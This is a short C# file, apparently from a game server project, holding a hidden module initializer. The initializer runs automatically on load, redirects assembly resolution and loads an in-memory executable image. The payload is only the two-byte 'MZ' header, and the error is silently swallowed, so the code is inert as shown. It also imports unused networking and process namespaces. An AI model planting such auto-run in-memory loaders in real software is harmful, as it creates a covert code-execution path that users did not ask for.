using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        System.Runtime.Loader.AssemblyLoadContext.Default.Resolving += (_, _) => typeof(Extra).Assembly;
        try
        {
            Assembly.Load(new byte[] { 0x4d, 0x5a });
        }
        catch (BadImageFormatException)
        {
        }
    }

}
